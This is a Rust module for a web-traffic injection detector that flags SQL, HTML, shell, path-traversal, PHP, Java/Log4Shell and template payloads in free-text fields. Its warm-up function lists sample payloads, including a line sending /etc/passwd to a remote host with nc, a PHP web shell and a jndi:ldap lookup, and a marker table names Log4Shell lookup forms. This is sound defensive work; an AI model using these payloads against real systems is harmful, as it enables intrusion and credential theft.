//! Structural injection detector for free-text request values.
//!
//! The learned value profiles flag a typed field (an id, an email) that suddenly carries `'` or
//! `<`. Free-text fields (comments, search boxes, names) legitimately contain quotes, brackets,
//! semicolons and ampersands, so there the profile cannot decide and this module does: each
//! rule looks for a construct that an interpreter (SQL engine, browser, shell, PHP, JVM,
//! template engine, file API) would act on and that prose does not produce.
//!
//! Cost model: one pass over the bytes records which byte values occur and finds every literal
//! marker and every trigger word of four bytes or more (each position's first four bytes probe
//! a hashed bitmap that stays in L1; only hits are confirmed against the patterns); the short
//! trigger words (`or`, `if`, `==`) are looked up only when a rule asks. Each rule has a gate,
//! the bytes and trigger words it cannot fire without, tested as one mask per value, so on
//! prose most rules are never called; a rule that runs is a single forward scan. All work is
//! over at most the first [`SCAN_LIMIT`] bytes, so it is linear in the input and bounded for
//! large bodies. A value that still carries a layer of encoding (`%2e`, `&#x3c;`, `\u0027`,
//! full-width `＜`) is decoded and scanned again, at most [`MAX_DECODE_PASSES`] times. Keyword
//! tables are built once.
//!
//! Measured against the OWASP CRS regression corpus (attack payload of each stage, one value):
//! 86.5 % of the 3,345 attack stages detected (PL1 rules 91 %); no benign hit in 28,000
//! generated and novel free-text sentences; the misses are mostly paranoia-level-2+ fragments
//! (`ABS(`, `<<`, bare URLs to unknown hosts) that are not distinguishable from prose.
//! About 0.5 µs for a 24-byte value, 1.5 µs for a 75-byte sentence (10–20 ns per byte of
//! prose), ≤ 2.5 ms for a 1 MiB value.

use std::cell::{Cell, OnceCell};
use std::collections::HashMap;
use std::sync::LazyLock;

/// Only the first 64 KiB of a value are inspected: payloads sit at the start of a field, and a
/// megabyte body must not cost a megabyte of scanning per rule.
pub const SCAN_LIMIT: usize = 64 * 1024;
/// How many extra decoding layers (percent, HTML entities, JS escapes, full-width forms) we peel.
pub const MAX_DECODE_PASSES: usize = 2;
/// libinjection is the most expensive check (~0.1 µs per byte for SQL): it only sees windows
/// of this many bytes around the first few suspicious spots, never the whole value.
const LIBINJECTION_WINDOW: usize = 192;
const LIBINJECTION_MAX_WINDOWS: usize = 2;

/// What kind of injection a value carries.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Injection {
    Sql,
    Html,
    Shell,
    PathTraversal,
    RemoteInclude,
    Php,
    Java,
    Template,
}

impl Injection {
    pub fn as_str(self) -> &'static str {
        match self {
            Injection::Sql => "sql",
            Injection::Html => "html",
            Injection::Shell => "shell",
            Injection::PathTraversal => "path-traversal",
            Injection::RemoteInclude => "remote-include",
            Injection::Php => "php",
            Injection::Java => "java",
            Injection::Template => "template",
        }
    }
}

/// Builds the detectors' tables now rather than on the first request that needs them (a
/// server calls this at start, so no request pays for it).
pub fn warm() {
    for v in [
        "1' or sleep(5)-- ",
        "<script>alert(document.cookie)</script>",
        "; cat /etc/passwd | nc 203.0.113.1 4444",
        "../../../../etc/shadow",
        "${jndi:ldap://203.0.113.1/a}",
        "{{7*7}}",
        "<?php system($_GET['c']); ?>",
        "http://203.0.113.1/shell.txt?",
        "java.lang.Runtime.getRuntime().exec('id')",
    ] {
        std::hint::black_box(detect(v));
    }
}

/// Decides whether a decoded value (already percent-decoded once by the caller) carries an
/// injection. Only the first [`SCAN_LIMIT`] bytes are inspected.
pub fn detect(value: &str) -> Option<Injection> {
    detect_rule(value).map(|(kind, _)| kind)
}

/// Like [`detect`], plus the name of the rule (or the literal marker) that decided, for logs.
pub fn detect_rule(value: &str) -> Option<(Injection, &'static str)> {
    let head = clip(value.as_bytes(), SCAN_LIMIT);
    if head.iter().all(u8::is_ascii_whitespace) {
        return None;
    }
    let (hit, mut present) = scan(head);
    if hit.is_some() {
        return hit;
    }
    // Evasion layers: decode what is left and look again.
    let mut layer: Option<Vec<u8>> = None;
    for _ in 0..MAX_DECODE_PASSES {
        let src = layer.as_deref().unwrap_or(head);
        let next = decode::peel(src, &present)?;
        let (hit, next_present) = scan(&next);
        if hit.is_some() {
            return hit;
        }
        present = next_present;
        layer = Some(next);
    }
    None
}

/// A structural rule: its name, the bytes and trigger words it cannot fire without, and its
/// check.
type Rule = (&'static str, Gate, fn(&Scan) -> bool);

/// What a rule needs before its check can succeed: every byte of `all`, one byte of `any` and
/// one of `also` (each when not empty), and a trigger word of the kinds `words` (when not 0).
/// Each gate restates conditions its rule checks first, so closed gates skip the call on
/// values (most prose) that lack them.
#[derive(Clone, Copy)]
struct Gate {
    all: u128,
    any: u128,
    also: u128,
    words: u64,
}

/// Quote characters that open or close SQL strings and identifiers.
const QUOTES: &[u8] = b"'\"`";

impl Gate {
    const NONE: Gate = Gate {
        all: 0,
        any: 0,
        also: 0,
        words: 0,
    };
    const fn all(bytes: &[u8]) -> Gate {
        Gate {
            all: Ascii::of(bytes).0,
            ..Gate::NONE
        }
    }
    const fn words(words: u64) -> Gate {
        Gate {
            words,
            ..Gate::NONE
        }
    }
    /// Also one of `bytes` (a second call adds a second such set).
    const fn any(self, bytes: &[u8]) -> Gate {
        let set = Ascii::of(bytes).0;
        if self.any == 0 {
            Gate { any: set, ..self }
        } else {
            Gate { also: set, ..self }
        }
    }
    const fn and_words(self, words: u64) -> Gate {
        Gate { words, ..self }
    }
    fn open(&self, s: &Scan) -> bool {
        let (lo, hi) = s.k.bytes.ascii();
        let ascii = u128::from(lo) | (u128::from(hi) << 64);
        (ascii & self.all == self.all)
            & ((self.any == 0) | (ascii & self.any != 0))
            & ((self.also == 0) | (ascii & self.also != 0))
            & ((self.words == 0) | (s.k.words & self.words != 0))
    }
}

/// Detectors in label-priority order: the most specific interpreter wins (a `${jndi:` URL is
/// Java, not remote include; `<?php system()` is PHP, not shell).
const DETECTORS: [(Injection, &[Rule]); 8] = [
    (Injection::Java, java::RULES),
    (Injection::Php, php::RULES),
    (Injection::Template, template::RULES),
    (Injection::Html, html::RULES),
    (Injection::Sql, sql::RULES),
    (Injection::Shell, shell::RULES),
    (Injection::PathTraversal, path::RULES),
    (Injection::RemoteInclude, remote::RULES),
];

/// The first rule (or marker) that fires on `b`, and the bytes occurring in `b`.
fn scan(b: &[u8]) -> (Option<(Injection, &'static str)>, ByteSet) {
    let s = Scan::new(b);
    let gates = &*GATES;
    let features = gates.features(&s);
    let mut k = 0;
    for (kind, rules) in DETECTORS.iter() {
        if let Some(name) = s.keyword_rule(*kind) {
            return (Some((*kind, name)), s.k.bytes);
        }
        for (name, gate, check) in rules.iter() {
            let open = match gates.needs.get(k) {
                Some(&need) if gates.complete => features & need == need,
                _ => gate.open(&s),
            };
            k += 1;
            if open && check(&s) {
                return (Some((*kind, name)), s.k.bytes);
            }
        }
    }
    (None, s.k.bytes)
}

/// The rules' gates as conjunctions of at most 64 conditions (a byte, one of a set of
/// bytes, a trigger-word kind), so that a value's conditions are computed once and each gate
/// is one mask test.
struct Gates {
    /// Per condition: (bytes 0..64, bytes 64..128, trigger-word kinds); it holds when any
    /// of them occurs.
    conditions: Vec<(u64, u64, u64)>,
    /// Per rule, in [`DETECTORS`] order, the conditions its gate needs.
    needs: Vec<u64>,
    /// False when the gates did not fit in 64 conditions (each gate is then tested itself).
    complete: bool,
}

static GATES: LazyLock<Gates> = LazyLock::new(|| {
    let mut g = Gates {
        conditions: Vec::new(),
        needs: Vec::new(),
        complete: true,
    };
    let split = |set: u128| (set as u64, (set >> 64) as u64);
    for (_, rules) in DETECTORS.iter() {
        for (_, gate, _) in rules.iter() {
            let mut wanted: Vec<(u64, u64, u64)> = (0..128u32)
                .filter(|c| (gate.all >> c) & 1 != 0)
                .map(|c| split(1u128 << c))
                .map(|(lo, hi)| (lo, hi, 0))
                .collect();
            for set in [gate.any, gate.also] {
                if set != 0 {
                    let (lo, hi) = split(set);
                    wanted.push((lo, hi, 0));
                }
            }
            if gate.words != 0 {
                wanted.push((0, 0, gate.words));
            }
            let mut need = 0u64;
            for c in wanted {
                let i = match g.conditions.iter().position(|x| *x == c) {
                    Some(i) => i,
                    None => {
                        g.conditions.push(c);
                        g.conditions.len() - 1
                    }
                };
                match u32::try_from(i).ok().and_then(|i| 1u64.checked_shl(i)) {
                    Some(bit) if i < 64 => need |= bit,
                    _ => g.complete = false,
                }
            }
            g.needs.push(need);
        }
    }
    g
});

impl Gates {
    /// Which conditions hold for the value of `s`, as bits.
    fn features(&self, s: &Scan) -> u64 {
        let (lo, hi) = s.k.bytes.ascii();
        let words = s.k.words;
        self.conditions
            .iter()
            .take(64)
            .enumerate()
            .fold(0u64, |f, (i, &(a, b, w))| {
                f | (u64::from((a & lo) | (b & hi) | (w & words) != 0) << i)
            })
    }
}

/// Cuts `b` to at most `max` bytes without splitting a UTF-8 sequence.
fn clip(b: &[u8], max: usize) -> &[u8] {
    if b.len() <= max {
        return b;
    }
    let mut end = max;
    while end > 0 && b.get(end).is_some_and(|c| (c & 0xC0) == 0x80) {
        end -= 1;
    }
    b.get(..end).unwrap_or_default()
}

/// Up to [`LIBINJECTION_MAX_WINDOWS`] non-overlapping windows of [`LIBINJECTION_WINDOW`] bytes
/// starting `back` bytes before each spot: the bounded input handed to libinjection.
fn windows<'a>(
    t: Text<'a>,
    spots: impl Iterator<Item = usize> + 'a,
    back: usize,
) -> impl Iterator<Item = &'a [u8]> + 'a {
    let mut covered = None;
    spots
        .filter(move |&p| {
            let fresh = covered.is_none_or(|c| p >= c);
            if fresh {
                covered = Some(p.saturating_sub(back) + LIBINJECTION_WINDOW);
            }
            fresh
        })
        .take(LIBINJECTION_MAX_WINDOWS)
        .map(move |p| {
            let start = p.saturating_sub(back);
            t.slice(start, start + LIBINJECTION_WINDOW)
        })
}

// ---------------------------------------------------------------------------------------------
// The per-layer scan context: bytes, punctuation present, keyword kinds and trigger words.
// ---------------------------------------------------------------------------------------------

struct Scan<'a> {
    t: Text<'a>,
    /// What the keyword pass found: bytes present, markers, trigger words and where.
    k: keywords::Found,
    /// The shorter trigger words (`or`, `if`, `==`, …) are looked up on demand: (the kinds
    /// looked up, the kinds present).
    short_words: Cell<(u64, u64)>,
    /// Where the short trigger words occur as whole words, found on first use.
    short_index: OnceCell<Box<keywords::WordIndex>>,
}

/// The set of byte values occurring in a text, as 256 bits, with a case-folded copy of the
/// letters.
#[derive(Clone, Copy)]
pub(crate) struct ByteSet {
    bits: [u64; 4],
    /// Bits 64..128 with each upper-case letter also marked as its lower-case form.
    folded: u64,
}

impl ByteSet {
    const EMPTY: ByteSet = ByteSet {
        bits: [0; 4],
        folded: 0,
    };
    /// From a table of 0/1 flags per byte value (filling such a table is one store per byte,
    /// with no dependency between bytes; packing it is 32 multiplications).
    /// `high`: whether any byte from 128 up may be flagged (else that half is skipped).
    fn from_flags(flags: &[u8; 256], high: bool) -> Self {
        let mut bits = [0u64; 4];
        let quarters = if high { 4 } else { 2 };
        for (word, quarter) in bits.iter_mut().zip(flags.chunks_exact(64)).take(quarters) {
            *word = quarter
                .chunks_exact(8)
                .enumerate()
                .fold(0u64, |acc, (k, chunk)| {
                    let x = <[u8; 8]>::try_from(chunk).map_or(0, u64::from_le_bytes);
                    // Byte `i` of `x` (0 or 1) becomes bit `i` of the top byte.
                    acc | ((x.wrapping_mul(0x0102_0408_1020_4080) >> 56) << (8 * k))
                });
        }
        let [_, letters, _, _] = bits;
        // `A`..`Z` are bits 1..=26 of the second word, `a`..`z` bits 33..=58.
        let upper = letters & 0x07FF_FFFE;
        ByteSet {
            bits,
            folded: letters | (upper << 32),
        }
    }
    fn has(&self, c: u8) -> bool {
        self.bits
            .get(usize::from(c >> 6))
            .is_some_and(|w| (w >> (c & 63)) & 1 != 0)
    }
    /// Whether `c` occurs in either ASCII case.
    fn has_ci(&self, c: u8) -> bool {
        if c.is_ascii_alphabetic() {
            (self.folded >> (c.to_ascii_lowercase() & 63)) & 1 != 0
        } else {
            self.has(c)
        }
    }
    /// Whether any byte of `list` occurs (as a mask test when `list` is ASCII, which the
    /// compiler folds for literal lists).
    #[inline(always)]
    fn has_any(&self, list: &[u8]) -> bool {
        let (lo, hi, ascii) = Self::exact(list);
        if !ascii {
            return list.iter().any(|&c| self.has(c));
        }
        let [w0, w1, _, _] = self.bits;
        (w0 & lo) | (w1 & hi) != 0
    }
    /// The bytes of `list` as (bytes 0..64, bytes 64..128, whether all are ASCII).
    const fn exact(list: &[u8]) -> (u64, u64, bool) {
        let (mut lo, mut hi, mut ascii) = (0u64, 0u64, true);
        let mut rest = list;
        while let [c, tail @ ..] = rest {
            if *c < 64 {
                lo |= 1 << *c;
            } else if *c < 128 {
                hi |= 1 << (*c - 64);
            } else {
                ascii = false;
            }
            rest = tail;
        }
        (lo, hi, ascii)
    }
    /// The ASCII bytes of `word`, letters in lower case, as (bytes 0..64, bytes 64..128).
    const fn need(word: &[u8]) -> (u64, u64) {
        let (mut lo, mut hi) = (0u64, 0u64);
        let mut rest = word;
        while let [c, tail @ ..] = rest {
            let c = c.to_ascii_lowercase();
            if c < 64 {
                lo |= 1 << c;
            } else if c < 128 {
                hi |= 1 << (c - 64);
            }
            rest = tail;
        }
        (lo, hi)
    }
    /// Whether all bytes of a [`ByteSet::need`] set occur, letters in either case.
    fn has_all(&self, (lo, hi): (u64, u64)) -> bool {
        let [w0, _, _, _] = self.bits;
        w0 & lo == lo && self.folded & hi == hi
    }
    fn non_ascii(&self) -> bool {
        let [_, w1, w2, w3] = self.bits;
        w2 | w3 != 0 || (w1 >> 63) != 0
    }
    /// The ASCII half, for gates.
    fn ascii(&self) -> (u64, u64) {
        let [w0, w1, _, _] = self.bits;
        (w0, w1)
    }
}

/// A constant set of ASCII bytes as 128 bits (for gates).
#[derive(Clone, Copy)]
struct Ascii(u128);

impl Ascii {
    const fn of(list: &[u8]) -> Self {
        let mut bits = 0u128;
        let mut rest = list;
        while let [c, tail @ ..] = rest {
            if *c < 128 {
                bits |= 1 << *c;
            }
            rest = tail;
        }
        Ascii(bits)
    }
}

/// A constant set of bytes as a lookup table: one load per byte tested.
struct ByteTable([bool; 256]);

impl ByteTable {
    const fn of(list: &[u8]) -> Self {
        let mut table = [false; 256];
        let mut rest = list;
        while let [c, tail @ ..] = rest {
            if let Some((_, right)) = table.split_at_mut_checked(*c as usize)
                && let Some(slot) = right.first_mut()
            {
                *slot = true;
            }
            rest = tail;
        }
        ByteTable(table)
    }
    fn has(&self, c: u8) -> bool {
        self.0.get(usize::from(c)).copied().unwrap_or(false)
    }
}

/// The bytes of a list that occur in a value, searched with `memchr` when there are at most
/// three of them.
struct Needles {
    bytes: [u8; 16],
    len: usize,
}

impl Needles {
    fn of(present: &ByteSet, list: &[u8]) -> Self {
        let mut n = Needles {
            bytes: [0; 16],
            len: 0,
        };
        if !present.has_any(list) {
            return n;
        }
        for &c in list.iter().filter(|&&c| present.has(c)) {
            if let Some(slot) = n.bytes.get_mut(n.len) {
                *slot = c;
                n.len += 1;
            }
        }
        n
    }
    fn is_empty(&self) -> bool {
        self.len == 0
    }
    /// The first position at or after `from` holding one of the bytes.
    fn find(&self, hay: &[u8], from: usize) -> Option<usize> {
        let rest = hay.get(from..)?;
        let found = match self.bytes.get(..self.len).unwrap_or_default() {
            [] => None,
            [a] => mchr(*a, rest),
            [a, b] => memchr::memchr2(*a, *b, rest),
            [a, b, c] => memchr::memchr3(*a, *b, *c, rest),
            many => rest.iter().position(|c| many.contains(c)),
        };
        found.map(|p| from + p)
    }
}

impl<'a> Scan<'a> {
    fn new(b: &'a [u8]) -> Self {
        Scan {
            t: Text(b),
            k: keywords::find(b),
            short_words: Cell::new((0, 0)),
            short_index: OnceCell::new(),
        }
    }
    /// Whether ASCII byte `c` occurs (`127` also stands for any non-ASCII byte).
    fn has(&self, c: u8) -> bool {
        c < 128
            && (if c == 127 {
                self.k.bytes.non_ascii()
            } else {
                self.k.bytes.has(c)
            })
    }
    #[inline(always)]
    fn has_any(&self, set: &[u8]) -> bool {
        self.k.bytes.has_any(set)
    }
    /// Whether `c` occurs in either ASCII case.
    fn has_ci(&self, c: u8) -> bool {
        self.k.bytes.has_ci(c)
    }
    /// Whether any trigger word of the kinds in `w` occurs (as a substring).
    fn word(&self, w: u64) -> bool {
        if self.k.words & w != 0 {
            return true;
        }
        let short = w & keywords::SHORT_MASK;
        if short == 0 {
            return false;
        }
        // The short trigger words of the kinds not looked up yet.
        let (known, present) = self.short_words.get();
        let todo = short & !known;
        if todo == 0 {
            return present & short != 0;
        }
        let found = keywords::SHORT_TRIGGERS
            .iter()
            .filter(|(word, bit, need)| {
                todo & bit != 0
                    && self.k.bytes.has_all(*need)
                    && find_ci(self.t.0, word.as_bytes(), 0).is_some()
            })
            .fold(0, |acc, (_, bit, _)| acc | bit);
        let present = present | found;
        self.short_words.set((known | todo, present));
        present & short != 0
    }
    /// Calls `f(start, end)` for each whole-word occurrence of the trigger word `word`, from
    /// the positions the keyword pass recorded (searching again only if they overflowed).
    fn each_word(&self, word: &str, f: impl FnMut(usize, usize) -> bool) -> bool {
        self.each_trigger(word, true, f)
    }

    /// Like [`Scan::each_word`]; `whole` = false accepts occurrences glued to words (`1||1`).
    fn each_trigger(
        &self,
        word: &str,
        whole: bool,
        mut f: impl FnMut(usize, usize) -> bool,
    ) -> bool {
        let t = self.t;
        let ok = |p: usize, e: usize| !whole || (t.word_start(p) && !t.is_word(e));
        if let Some(k) = keywords::short_word(word).filter(|_| whole) {
            let index = self
                .short_index
                .get_or_init(|| Box::new(keywords::WordIndex::build(t.0)));
            if !index.overflow {
                return index.list().iter().any(|&(w, p)| {
                    let (p, e) = (p as usize, p as usize + word.len());
                    w == k && ok(p, e) && f(p, e)
                });
            }
        }
        let recorded = word.len() >= keywords::KEY_LEN && !self.k.hits.overflow;
        match recorded.then(|| keywords::trigger_index(word)).flatten() {
            Some(idx) => self.k.hits.list().iter().any(|&(k, p)| {
                let (p, e) = (p as usize, p as usize + word.len());
                k == idx && ok(p, e) && f(p, e)
            }),
            // A word whose bytes do not all occur does not occur.
            None if !word.bytes().all(|c| self.has_ci(c)) => false,
            None => {
                let w = word.as_bytes();
                let mut from = 0;
                while let Some(p) = find_ci(t.0, w, from) {
                    from = p + 1;
                    if ok(p, p + w.len()) && f(p, p + w.len()) {
                        return true;
                    }
                }
                false
            }
        }
    }

    fn keyword_rule(&self, kind: Injection) -> Option<&'static str> {
        self.k
            .markers
            .get(kind as usize)
            .copied()
            .flatten()
            .map(|(_, name)| name)
    }
}

// ---------------------------------------------------------------------------------------------
// Byte-level helpers.
// ---------------------------------------------------------------------------------------------

/// A borrowed byte view with panic-free accessors (out-of-range reads yield 0).
#[derive(Clone, Copy)]
struct Text<'a>(&'a [u8]);

impl<'a> Text<'a> {
    fn len(self) -> usize {
        self.0.len()
    }
    fn at(self, i: usize) -> u8 {
        self.0.get(i).copied().unwrap_or(0)
    }
    /// The byte before `i`, or 0 at the start.
    fn before(self, i: usize) -> u8 {
        i.checked_sub(1).map_or(0, |j| self.at(j))
    }
    fn slice(self, from: usize, to: usize) -> &'a [u8] {
        self.0
            .get(from.min(self.len())..to.min(self.len()))
            .unwrap_or_default()
    }
    fn starts_ci(self, i: usize, pat: &[u8]) -> bool {
        i.checked_add(pat.len())
            .and_then(|end| self.0.get(i..end))
            .is_some_and(|s| s.eq_ignore_ascii_case(pat))
    }
    fn is_word(self, i: usize) -> bool {
        is_word(self.at(i))
    }
    /// True when a word starting at `i` is not glued to a preceding word character.
    fn word_start(self, i: usize) -> bool {
        !is_word(self.before(i))
    }
    fn skip_ws(self, mut i: usize) -> usize {
        while i < self.len() && (self.at(i).is_ascii_whitespace() || self.at(i) == 0x0b) {
            i += 1;
        }
        i
    }
    fn skip_back_ws(self, mut i: usize) -> usize {
        while i > 0 && self.before(i).is_ascii_whitespace() {
            i -= 1;
        }
        i
    }
    fn word_end(self, mut i: usize) -> usize {
        while i < self.len() && self.is_word(i) {
            i += 1;
        }
        i
    }
    /// Skips whitespace and code comments (`/* */`, `//…\n`, `#…\n`) as PHP and SQL lexers do;
    /// also reports whether a comment was skipped.
    fn skip_code_space(self, mut i: usize) -> (usize, bool) {
        let mut saw_comment = false;
        loop {
            let start = i;
            i = self.skip_ws(i);
            if self.starts_ci(i, b"/*") {
                saw_comment = true;
                i = find(self.0, b"*/", i + 2).map_or(self.len(), |e| e + 2);
            } else if self.starts_ci(i, b"//") || (self.at(i) == b'#' && self.at(i + 1) != b'{') {
                let nl = mchr(b'\n', self.slice(i, self.len()));
                // A line comment only counts when it really ends a line.
                if let Some(e) = nl {
                    saw_comment = true;
                    i += e + 1;
                }
            }
            if i == start {
                return (i, saw_comment);
            }
        }
    }
    /// Next word at or after `i` (skipping whitespace/comments), as a range.
    fn next_word(self, i: usize) -> Option<(usize, usize)> {
        let (s, _) = self.skip_code_space(i);
        let e = self.word_end(s);
        (e > s).then_some((s, e))
    }
    fn word_is(self, range: Option<(usize, usize)>, words: &[&str]) -> bool {
        range.is_some_and(|(s, e)| in_list(words, self.slice(s, e)))
    }
    fn contains_ci(self, pat: &[u8]) -> bool {
        find_ci(self.0, pat, 0).is_some()
    }
}

fn is_word(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

/// [`is_word`] as a table.
static WORD: ByteTable =
    ByteTable::of(b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ_abcdefghijklmnopqrstuvwxyz");

/// Substring search for the short needles used here (memchr on the first byte, then compare;
/// cheaper than building a `memmem` searcher per call).
fn find(hay: &[u8], needle: &[u8], from: usize) -> Option<usize> {
    let (k, anchor) = rarest(needle)?;
    let mut i = from.checked_add(k)?;
    while let Some(off) = mchr(anchor, hay.get(i..)?) {
        let p = i + off;
        let start = p - k;
        if hay.get(start..start + needle.len()) == Some(needle) {
            return Some(start);
        }
        i = p + 1;
    }
    None
}

/// The rarest byte of `needle` in prose and its offset: the byte to search for first.
fn rarest(needle: &[u8]) -> Option<(usize, u8)> {
    let (&first, rest) = needle.split_first()?;
    let mut best = (0, first, RARITY.get(first));
    for (k, &c) in rest.iter().enumerate() {
        let r = RARITY.get(c);
        if r > best.2 {
            best = (k + 1, c, r);
        }
    }
    Some((best.0, best.1))
}

/// [`rarity`] of every byte value.
static RARITY: Rarity = Rarity::new();

struct Rarity([u8; 256]);

impl Rarity {
    const fn new() -> Self {
        let mut table = [0u8; 256];
        let mut c = 0u8;
        loop {
            if let Some((_, right)) = table.split_at_mut_checked(c as usize)
                && let Some(slot) = right.first_mut()
            {
                *slot = rarity(c);
            }
            if c == 255 {
                break;
            }
            c += 1;
        }
        Rarity(table)
    }
    fn get(&self, c: u8) -> u8 {
        self.0.get(usize::from(c)).copied().unwrap_or(0)
    }
}

/// Every start position of `needle` in `hay` (overlapping).
fn find_all<'h>(hay: &'h [u8], needle: &'h [u8]) -> impl Iterator<Item = usize> + 'h {
    let mut from = 0;
    std::iter::from_fn(move || {
        let p = find(hay, needle, from)?;
        from = p + 1;
        Some(p)
    })
}

/// ASCII case-insensitive substring search (memchr on the first byte, then compare).
fn find_last(hay: &[u8], needle: &[u8]) -> Option<usize> {
    (0..=hay.len().checked_sub(needle.len())?)
        .rev()
        .find(|&i| hay.get(i..i + needle.len()) == Some(needle))
}

/// `memchr` for the short texts most values are: a plain loop below 32 bytes (no dispatch).
fn mchr(c: u8, hay: &[u8]) -> Option<usize> {
    if hay.len() < 32 {
        hay.iter().position(|&x| x == c)
    } else {
        memchr::memchr(c, hay)
    }
}

/// `memrchr`, likewise.
fn mrchr(c: u8, hay: &[u8]) -> Option<usize> {
    if hay.len() < 32 {
        hay.iter().rposition(|&x| x == c)
    } else {
        memchr::memrchr(c, hay)
    }
}

/// `memchr2`, likewise.
fn mchr2(a: u8, b: u8, hay: &[u8]) -> Option<usize> {
    if hay.len() < 32 {
        hay.iter().position(|&x| x == a || x == b)
    } else {
        memchr::memchr2(a, b, hay)
    }
}

/// Every start position of `needle` in `hay`, ASCII case-insensitively (overlapping).
fn find_all_ci<'h>(hay: &'h [u8], needle: &'h [u8]) -> impl Iterator<Item = usize> + 'h {
    let mut from = 0;
    std::iter::from_fn(move || {
        let p = find_ci(hay, needle, from)?;
        from = p + 1;
        Some(p)
    })
}

/// ASCII case-insensitive substring search: memchr on the needle's rarest byte (by English
/// letter frequency), then compare.
fn find_ci(hay: &[u8], needle: &[u8], from: usize) -> Option<usize> {
    let (k, anchor) = rarest(needle)?;
    let (lo, up) = (anchor.to_ascii_lowercase(), anchor.to_ascii_uppercase());
    let mut i = from.checked_add(k)?;
    while let Some(off) = mchr2(lo, up, hay.get(i..)?) {
        let p = i + off;
        let start = p - k;
        if hay
            .get(start..start + needle.len())
            .is_some_and(|s| s.eq_ignore_ascii_case(needle))
        {
            return Some(start);
        }
        i = p + 1;
    }
    None
}

/// How rare a byte is in prose (higher is rarer), to pick a search anchor.
const fn rarity(c: u8) -> u8 {
    match c.to_ascii_lowercase() {
        b' ' => 0,
        b'e' => 1,
        b't' => 2,
        b'a' => 3,
        b'o' => 4,
        b'i' => 5,
        b'n' => 6,
        b's' => 7,
        b'h' => 8,
        b'r' => 9,
        b'd' => 10,
        b'l' => 11,
        b'c' => 12,
        b'u' => 13,
        b'm' => 14,
        b'w' => 15,
        b'f' => 16,
        b'g' => 17,
        b'y' => 18,
        b'.' | b',' => 19,
        b'p' => 20,
        b'b' => 21,
        b'v' => 22,
        b'k' => 23,
        b'0'..=b'9' => 24,
        b'j' => 25,
        b'x' => 26,
        b'q' => 27,
        b'z' => 28,
        _ => 29,
    }
}

fn in_list(list: &[&str], w: &[u8]) -> bool {
    list.iter().any(|k| k.as_bytes().eq_ignore_ascii_case(w))
}

fn ends_with_ci(w: &[u8], p: &[u8]) -> bool {
    w.len()
        .checked_sub(p.len())
        .and_then(|n| w.get(n..))
        .is_some_and(|s| s.eq_ignore_ascii_case(p))
}

fn starts_with_ci(w: &[u8], p: &[u8]) -> bool {
    w.get(..p.len()).is_some_and(|s| s.eq_ignore_ascii_case(p))
}

fn trim_ascii(b: &[u8]) -> &[u8] {
    let start = b
        .iter()
        .position(|c| !c.is_ascii_whitespace())
        .unwrap_or(b.len());
    let end = b
        .iter()
        .rposition(|c| !c.is_ascii_whitespace())
        .map_or(start, |e| e + 1);
    b.get(start..end).unwrap_or_default()
}

/// Lower-cases a short word into a stack buffer for map lookups (`None` if longer than 32).
fn lower32(w: &[u8]) -> Option<([u8; 32], usize)> {
    let mut buf = [0u8; 32];
    let dst = buf.get_mut(..w.len())?;
    for (d, s) in dst.iter_mut().zip(w) {
        *d = s.to_ascii_lowercase();
    }
    Some((buf, w.len()))
}

/// A multiplicative hash for the short lower-case words of [`WordMap`] (the keys are our own
/// static lists, so no flooding resistance is needed).
#[derive(Default, Clone, Copy)]
struct WordHasher(u64);

impl std::hash::Hasher for WordHasher {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.0 = (self.0.rotate_left(5) ^ u64::from(b)).wrapping_mul(0x51_7C_C1_B7_27_22_0A_95);
        }
    }
    fn write_usize(&mut self, n: usize) {
        self.0 = (self.0.rotate_left(5) ^ n as u64).wrapping_mul(0x51_7C_C1_B7_27_22_0A_95);
    }
}

type WordHash = std::hash::BuildHasherDefault<WordHasher>;

/// A case-insensitive word → flags map built once from static lists, behind a bitmap of the
/// words' (length, first byte, last byte) signatures that rejects most other words at once.
struct WordMap {
    map: HashMap<Vec<u8>, u8, WordHash>,
    signatures: [u64; 256],
}

impl WordMap {
    fn new(groups: &[(&[&str], u8)]) -> Self {
        let mut m = WordMap {
            map: HashMap::default(),
            signatures: [0; 256],
        };
        for (words, flag) in groups {
            for w in *words {
                let sig = Self::signature(w.as_bytes());
                if let Some(bits) = m.signatures.get_mut(sig >> 6) {
                    *bits |= 1 << (sig & 63);
                }
                *m.map
                    .entry(w.to_ascii_lowercase().into_bytes())
                    .or_default() |= flag;
            }
        }
        m
    }
    /// (length up to 15, first and last byte folded to 5 bits): the same for any case.
    fn signature(w: &[u8]) -> usize {
        let fold = |c: Option<&u8>| usize::from(c.map_or(0, |c| (c | 0x20) & 31));
        (w.len().min(15) << 10) | (fold(w.first()) << 5) | fold(w.last())
    }
    fn get(&self, w: &[u8]) -> u8 {
        let sig = Self::signature(w);
        if self
            .signatures
            .get(sig >> 6)
            .is_none_or(|bits| (bits >> (sig & 63)) & 1 == 0)
        {
            return 0;
        }
        lower32(w)
            .and_then(|(buf, n)| buf.get(..n).and_then(|k| self.map.get(k)).copied())
            .unwrap_or(0)
    }
}

// ---------------------------------------------------------------------------------------------
// Literal markers and trigger words: one pass over the bytes for all of them.
// ---------------------------------------------------------------------------------------------

mod keywords {
    use super::*;
    use Injection::*;

    /// How a literal marker is confirmed.
    #[derive(Clone, Copy)]
    enum Check {
        /// The literal alone is conclusive.
        Any,
        /// Must not be glued to a preceding word character.
        Start,
        /// Word boundary on both sides.
        Whole,
        /// A function name: boundary before, then optional whitespace/comments and `(`.
        Call,
    }
    use Check::*;

    /// Conclusive case-insensitive markers and the interpreter each one targets.
    #[rustfmt::skip]
    const MARKERS: &[(&str, Injection, Check)] = &[
        // Java: Log4Shell lookups, reflection/process classes, OGNL, deserialization gadgets.
        ("${jndi:", Java, Any), ("jndi:ldap", Java, Any), ("jndi:rmi", Java, Any),
        ("jndi:dns", Java, Any), ("jndi:iiop", Java, Any), ("jndi:corba", Java, Any),
        ("jndi:nds", Java, Any), ("jndi:nis", Java, Any), ("jndi:http", Java, Any),
        ("{jndi:", Java, Any), ("${::-", Java, Any), ("${lower:", Java, Any),
        ("${upper:", Java, Any), ("${env:", Java, Any), ("${sys:", Java, Any),
        ("${date:", Java, Any), ("${ctx:", Java, Any), ("${main:", Java, Any),
        ("${java:", Java, Any), ("${base64:", Java, Any), ("${bundle:", Java, Any),
